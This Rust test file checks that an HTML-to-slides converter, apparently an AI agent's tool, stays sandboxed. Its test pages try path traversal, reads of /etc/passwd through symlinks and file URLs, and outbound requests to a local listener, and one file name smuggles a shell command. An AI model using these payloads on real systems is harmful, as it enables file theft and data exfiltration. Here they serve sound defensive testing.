//! Pages that want what is not theirs, that never end, or that are no pages.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use okcvm_testkit::{Reply, ScriptedModelServer};
use serde_json::json;

use super::family::Family;
use super::package::Package;
use super::{Bench, LONG, PAGE, SHORT, sure_nothing_is_left};
use crate::command_line::{asking, prepared, text};

/// A server on this machine that nobody may reach. It counts who comes.
struct Listener {
    address: String,
    met: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
}

impl Listener {
    fn start() -> Self {
        let server = TcpListener::bind("127.0.0.1:0").unwrap();
        server.set_nonblocking(true).unwrap();
        let address = server.local_addr().unwrap().to_string();
        let (met, stop) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicBool::new(false)));
        std::thread::spawn({
            let (met, stop) = (met.clone(), stop.clone());
            move || {
                while !stop.load(Ordering::Acquire) {
                    match server.accept() {
                        Ok(_) => {
                            met.fetch_add(1, Ordering::AcqRel);
                        }
                        Err(error) if error.kind() == ErrorKind::WouldBlock => {
                            std::thread::sleep(Duration::from_millis(5));
                        }
                        Err(error) => panic!("{error}"),
                    }
                }
            }
        });
        Self { address, met, stop }
    }

    /// Nobody came, though somebody could have.
    fn sure_nobody_came(&self) {
        assert_eq!(self.met.load(Ordering::Acquire), 0, "the page reached a server");
        std::net::TcpStream::connect(&self.address).unwrap();
        let begun = Instant::now();
        while self.met.load(Ordering::Acquire) == 0 {
            assert!(begun.elapsed() < SHORT, "the server counts nobody");
            std::thread::sleep(Duration::from_millis(5));
        }
    }
}

impl Drop for Listener {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Release);
    }
}

#[test]
fn a_page_reaches_nothing_but_its_own_workspace() {
    let listener = Listener::start();
    let bench = Bench::new();
    std::fs::write(bench.folder.path().join("secret.txt"), "SECRET").unwrap();
    std::fs::write(bench.folder.path().join("secret.png"), super::pixel()).unwrap();
    std::os::unix::fs::symlink("../secret.txt", bench.work().join("link.txt")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", bench.work().join("passwd.txt")).unwrap();
    bench.write("near.txt", b"NEAR");
    bench.write("near.png", &super::pixel());
    // What is read is written on the slide; what only goes out is counted by the listener.
    let page = r#"<!DOCTYPE html><title>Out</title>{style}
<link rel="preconnect" href="http://{at}/"><link rel="dns-prefetch" href="http://{at}/"><link rel="prefetch" href="http://{at}/p">
<link rel="stylesheet" href="http://{at}/a.css"><script src="http://{at}/a.js"></script>
<style>@import url("http://{at}/b.css"); @font-face { font-family: Far; src: url("http://{at}/f.woff2"); } .far { font-family: Far; background-image: url("http://{at}/g.png"); }</style>
<div class="ppt-slide"><h1>Out</h1><ul id="list"></ul><p class="far">far</p><div id="pictures"></div>
<iframe src="http://{at}/frame"></iframe><iframe src="file:///etc/passwd"></iframe><object data="http://{at}/o"></object>
<video src="http://{at}/v.mp4" autoplay></video><svg><image href="http://{at}/s.png" width="9" height="9"/></svg></div>
<script>
const list = document.getElementById('list');
const tell = (name, words) => { const item = document.createElement('li'); item.textContent = name + '=' + words; list.append(item); };
for (const address of ['near.txt', '/mnt/okcomputer/near.txt', 'http://{at}/x', 'file:///etc/passwd', '../../secret.txt', '..%2f..%2fsecret.txt',
    '%2e%2e/secret.txt', '/../secret.txt', '/etc/passwd', 'link.txt', 'passwd.txt', 'http://localhost:{port}/x', 'http://[::1]:{port}/x', 'view-source:file:///etc/passwd']) {
  try { const ask = new XMLHttpRequest(); ask.open('GET', address, false); ask.send(); tell(address, ask.responseText || 'nothing'); } catch { tell(address, 'refused'); }
}
const pictures = document.getElementById('pictures');
for (const address of ['near.png', '../secret.png', '..%2fsecret.png', 'http://{at}/i.png', 'file:///usr/share/pixmaps/debian-logo.png']) {
  const picture = new Image(9, 9);
  picture.onload = () => tell('picture ' + address, 'there'); picture.onerror = () => tell('picture ' + address, 'missing');
  picture.src = address; pictures.append(picture);
}
try { const socket = new WebSocket('ws://{at}/'); socket.onopen = () => tell('socket', 'open'); } catch {}
try { new EventSource('http://{at}/e'); } catch {}
try { navigator.sendBeacon('http://{at}/b', 'x'); } catch {}
try { fetch('http://{at}/f', { method: 'POST', mode: 'no-cors', body: 'x' }); } catch {}
try { window.open('http://{at}/w'); } catch {}
try { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{at}' }, { urls: 'turn:{at}?transport=tcp', username: 'u', credential: 'c' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } catch {}
try { new Worker(URL.createObjectURL(new Blob(["fetch('http://{at}/k'); try { importScripts('http://{at}/k.js') } catch {}"]))); } catch {}
try { navigator.serviceWorker.register('near.txt'); } catch {}
const form = document.createElement('form'); form.action = 'http://{at}/form'; form.method = 'post'; form.target = 'elsewhere'; document.body.append(form); try { form.submit(); } catch {}
const until = Date.now() + 500; while (Date.now() < until);
</script>"#;
    let port = listener.address.rsplit_once(':').unwrap().1;
    let page =
        page.replace("{at}", &listener.address).replace("{port}", port).replace("{style}", super::STYLE);
    let done = bench.convert("out.html", page.as_bytes(), LONG);
    let package = Package::valid("out", &done.pptx.expect(&done.said));
    let words = package.words();
    let told: Vec<&str> = words.lines().filter(|line| line.contains('=')).collect();
    let mut expected: Vec<String> = vec!["near.txt=NEAR".into(), "/mnt/okcomputer/near.txt=NEAR".into()];
    for address in [
        "http://{at}/x",
        "file:///etc/passwd",
        "../../secret.txt",
        "..%2f..%2fsecret.txt",
        "%2e%2e/secret.txt",
        "/../secret.txt",
        "/etc/passwd",
        "link.txt",
        "passwd.txt",
        "http://localhost:{port}/x",
        "http://[::1]:{port}/x",
        "view-source:file:///etc/passwd",
    ] {
        expected
            .push(format!("{address}=refused").replace("{at}", &listener.address).replace("{port}", port));
    }
    assert_eq!(&told[..expected.len().min(told.len())], expected, "{words}");
    let mut pictures: Vec<&str> = told[expected.len()..].to_vec();
    pictures.sort_unstable();
    let mut missing: Vec<String> = [
        "../secret.png",
        "..%2fsecret.png",
        &format!("http://{}/i.png", listener.address),
        "file:///usr/share/pixmaps/debian-logo.png",
    ]
    .map(|address| format!("picture {address}=missing"))
    .into();
    missing.push("picture near.png=there".to_owned());
    missing.sort();
    assert_eq!(pictures, missing, "{words}");
    for secret in ["SECRET", "root:x:0"] {
        assert!(!package.holds(secret.as_bytes()), "{secret}");
    }
    listener.sure_nobody_came();
    assert!(done.browsers > 1, "no browser ran");
}

#[test]
fn a_page_that_leaves_for_elsewhere_is_not_followed() {
    let listener = Listener::start();
    let bench = Bench::new();
    let far = format!("http://{}/", listener.address);
    for (name, script) in [
        ("at once", format!("<script>location.href = '{far}';</script>")),
        ("in its head", format!("<meta http-equiv=\"refresh\" content=\"0;url={far}\">")),
        ("to a file", "<script>location.href = 'file:///etc/passwd';</script>".to_owned()),
        (
            "later",
            format!(
                "<script>addEventListener('load', () => setTimeout(() => {{ location.href = '{far}'; }}, 0));</script>"
            ),
        ),
        ("again and again", "<script>location.reload();</script>".to_owned()),
    ] {
        let page = format!("<!DOCTYPE html>{script}{}{PAGE}", super::STYLE);
        let done = bench.convert("leaves.html", page.as_bytes(), LONG);
        match done.pptx {
            Some(pptx) => {
                assert_eq!(Package::valid(name, &pptx).facts(1).title.as_deref(), Some("A title"), "{name}");
            }
            // It is said in words, not by the engine's own.
            None => assert!(
                done.said.contains("The page") || done.said.contains("web engine"),
                "{name}: {}",
                done.said
            ),
        }
        assert!(!done.said.contains("root:x:0"), "{name}");
        println!("{name}: {}", done.said);
    }
    listener.sure_nobody_came();
}

#[test]
fn a_script_without_an_end_is_called_off() {
    let begins = |when: &str| format!("<!DOCTYPE html>{}{PAGE}<script>{when}</script>", super::STYLE);
    let pages = [
        begins("for (;;);"),
        // While it is waited for that the page comes to rest.
        begins(
            "setInterval(() => document.body.dataset.a = performance.now(), 50); setTimeout(() => { for (;;); }, 1500);",
        ),
        begins("addEventListener('load', () => setTimeout(() => { for (;;); }, 0));"),
        // While pictures of it are taken, for which the view is made larger.
        begins("addEventListener('resize', () => { for (;;); });"),
        // While it is made ready to be measured, for which letters that are only drawn become elements.
        begins(
            "const style = document.createElement('style'); style.textContent = 'h1::before { content: \"» \"; }'; document.head.append(style); new MutationObserver(() => { if (document.querySelector('h1 > *')) for (;;); }).observe(document.body, { childList: true, subtree: true });",
        ),
    ];
    let running = pages.map(|page| {
        std::thread::spawn(move || {
            let begun = Instant::now();
            let done = Bench::new().convert("endless.html", page.as_bytes(), LONG);
            (done, begun.elapsed())
        })
    });
    for running in running {
        let (done, took) = running.join().unwrap();
        assert!(done.pptx.is_none() && done.code == Some(1), "{}", done.said);
        assert!(done.said.contains("took longer than 15 s to load the page, whose scripts"), "{}", done.said);
        assert!(took < Duration::from_secs(45), "{took:?}");
        assert!(done.browsers > 1, "no browser ran");
        println!("{took:?}: {}", done.said);
    }
}

#[test]
fn what_is_no_deck_is_told_and_what_is_large_is_done() {
    let bench = Bench::new();
    let noise: Vec<u8> =
        (0..200_000_u32).map(|number| (number.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let many = format!("<!DOCTYPE html>{}{}", super::STYLE, PAGE.repeat(301));
    for (name, page, words) in [
        ("empty.html", Vec::new(), "has no slides"),
        ("binary.html", noise, "has no slides"),
        ("plain.html", b"<p>Words, and no slide".to_vec(), "has no slides"),
        ("many.html", many.into_bytes(), "has 301 slides; at most 300"),
    ] {
        let done = bench.convert(name, &page, LONG);
        assert!(done.pptx.is_none() && done.code == Some(1), "{name}: {}", done.said);
        assert!(done.said.contains(words), "{name}: {}", done.said);
    }
    for (arguments, words) in [
        (json!({"file_path": "nowhere.html"}), "nowhere.html"),
        (json!({"file_path": "."}), ""),
        (json!({"file_path": "../out.html"}), ""),
        (json!({}), "file_path"),
        (json!({"file_path": "empty.html", "content": "x"}), "not both"),
    ] {
        let done = bench.call(&arguments, LONG);
        assert!(done.pptx.is_none() && done.code == Some(1), "{arguments}: {}", done.said);
        assert!(done.said.contains(words) && !done.said.trim().is_empty(), "{arguments}: {}", done.said);
        assert_eq!(done.browsers, 0, "a browser ran for {arguments}");
    }
}

#[test]
fn deep_and_wide_pages_end_in_bounded_time() {
    let bench = Bench::new();
    let parsed = format!(
        "<!DOCTYPE html>{}<div class=\"ppt-slide\"><h1>A title</h1>{}deep{}</div>",
        super::STYLE,
        "<div>".repeat(10_000),
        "</div>".repeat(10_000)
    );
    let made = format!(
        "<!DOCTYPE html>{}<div class=\"ppt-slide\"><h1>A title</h1><div id=\"here\"></div></div><script>let at = document.getElementById('here'); for (let depth = 0; depth < 10000; depth += 1) {{ const next = document.createElement('div'); at.append(next); at = next; }} at.textContent = 'deep';</script>",
        super::STYLE
    );
    let row = |row: usize| {
        let cells: Vec<String> = (0..20).map(|column| format!("<td>{row}.{column}</td>")).collect();
        format!("<tr>{}</tr>", cells.concat())
    };
    let rows = (0..1000).map(row).collect::<Vec<_>>().concat();
    let table = format!(
        "<!DOCTYPE html>{}<div class=\"ppt-slide\"><h1>A title</h1><table>{rows}</table></div>",
        super::STYLE
    );
    let slides = format!("<!DOCTYPE html>{}{}", super::STYLE, PAGE.repeat(300));
    for (name, page) in [("parsed", parsed), ("made", made), ("table", table), ("slides", slides)] {
        let begun = Instant::now();
        let done = bench.convert(&format!("{name}.html"), page.as_bytes(), LONG);
        let took = begun.elapsed();
        println!("{name}: {took:?}, {}", done.said.chars().take(300).collect::<String>());
        assert!(took < Duration::from_secs(100), "{name}: {took:?}");
        match done.pptx {
            Some(pptx) => {
                let package = Package::valid(name, &pptx);
                assert_eq!(package.facts(1).title.as_deref(), Some("A title"), "{name}");
                match name {
                    "slides" => assert_eq!(package.slides(), 300),
                    // Rows below the page's edge may be left out, and the report says so.
                    "table" => assert!(package.words().contains("0.19"), "{}", package.words()),
                    _ => assert!(package.words().contains("deep"), "{}", package.words()),
                }
            }
            None => assert!(
                done.said.contains("web engine") || done.said.contains("The page"),
                "{name}: {}",
                done.said
            ),
        }
    }
}

#[test]
fn missing_pictures_are_named_and_names_of_files_may_be_of_any_script() {
    let bench = Bench::new();
    bench.write("图 片/🚲 & 海#1.png", &super::pixel());
    let page = format!(
        "<!DOCTYPE html>{}<div class=\"ppt-slide\"><h1>Pictures 🚲</h1><img src=\"/mnt/okcomputer/%E5%9B%BE%20%E7%89%87/🚲 &amp; 海%231.png\" width=\"40\" height=\"40\" alt=\"a wheel\">\
         <img src=\"none/海.png?v=2\" width=\"40\" height=\"40\" alt=\"gone\"><img src=\"\" width=\"9\" height=\"9\"><img src=\"data:image/png;base64,AAAA\" width=\"9\" height=\"9\">\
         <img src=\"https://example.com/far.png\" width=\"9\" height=\"9\"></div>",
        super::STYLE
    );
    for name in ["деки/陈 述 🎤.html", "a b#c%20d?.html", "…", "'\"`$(x);.htm"] {
        let done = bench.convert(name, page.as_bytes(), LONG);
        let package = Package::valid(name, &done.pptx.expect(&done.said));
        assert_eq!(package.pictures(), 1, "{name}");
        assert_eq!(package.facts(1).title.as_deref(), Some("Pictures 🚲"), "{name}");
        let alt: Vec<_> =
            package.slide(1).all("p:cNvPr").iter().filter_map(|shape| shape.get("descr")).collect();
        assert!(alt.contains(&"a wheel"), "{name}: {alt:?}");
        for missing in ["none/", "far.png"] {
            assert!(done.said.contains(missing), "{name}: {}", done.said);
        }
        assert!(!done.said.contains("wheel"), "{}", done.said);
    }
}

#[test]
fn a_call_that_is_stopped_leaves_nothing() {
    let bench = Bench::new();
    bench.write(
        "endless.html",
        format!("<!DOCTYPE html>{}{PAGE}<script>for (;;);</script>", super::STYLE).as_bytes(),
    );
    for name in ["TERM", "INT"] {
        let arguments = json!({"file_path": "endless.html"}).to_string();
        let work = bench.work().to_string_lossy().into_owned();
        let program = prepared(
            bench.folder.path(),
            &["tool", "call", "slides_generator", "--workspace", &work, "--arguments", &arguments],
        );
        let mut family = Family::start(program);
        family.until_browser(SHORT);
        let begun = Instant::now();
        family.signal(name);
        let (output, _) = family.finish(SHORT);
        assert_eq!(
            output.status.code(),
            Some(130),
            "{name}: {}{}",
            text(&output.stdout),
            text(&output.stderr)
        );
        println!("{name}: ended after {:?}", begun.elapsed());
        assert!(!bench.work().join("endless.pptx").exists());
        sure_nothing_is_left(&bench);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_turn_that_is_stopped_leaves_nothing() {
    let server = ScriptedModelServer::start().await.unwrap();
    server.push(Reply::call("call-1", "mshtools-slides_generator", &json!({"file_path": "endless.html"})));
    let bench = Bench::new();
    bench.write(
        "endless.html",
        format!("<!DOCTYPE html>{}{PAGE}<script>for (;;);</script>", super::STYLE).as_bytes(),
    );
    let work = bench.work().to_string_lossy().into_owned();
    let program = asking(&server, bench.folder.path(), &["run", "Make slides.", "--workspace", &work]);
    tokio::task::spawn_blocking(move || {
        let mut family = Family::start(program);
        family.until_browser(SHORT);
        family.signal("TERM");
        let (output, _) = family.finish(SHORT);
        assert_eq!(output.status.code(), Some(130), "{}{}", text(&output.stdout), text(&output.stderr));
        assert!(!bench.work().join("endless.pptx").exists());
        sure_nothing_is_left(&bench);
    })
    .await
    .unwrap();
}
